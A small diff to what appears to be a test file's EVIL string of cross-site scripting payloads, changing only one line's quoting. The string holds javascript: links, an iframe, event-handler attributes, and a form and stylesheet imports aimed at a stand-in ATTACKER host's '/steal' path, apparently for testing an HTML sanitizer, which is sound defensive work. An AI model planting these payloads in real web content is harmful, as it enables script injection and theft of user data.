@@ -27,7 +27,7 @@ EVIL = (
     '<a href="javascript:alert(7)">raw link</a> <iframe src="javascript:alert(8)"></iframe>\n\n'
     f'<form action="http://{ATTACKER}/steal"><input name=x autofocus onfocus="window.__xss=9"></form>\n\n'
     f'<link rel="stylesheet" href="http://{ATTACKER}/x.css"><style>@import "http://{ATTACKER}/y.css";</style>\n\n'
-    "<details open ontoggle=\"window.__xss=10\">raw <b>html</b></details> the end"
+    '<details open ontoggle="window.__xss=10">raw <b>html</b></details> the end'
 )
 
 
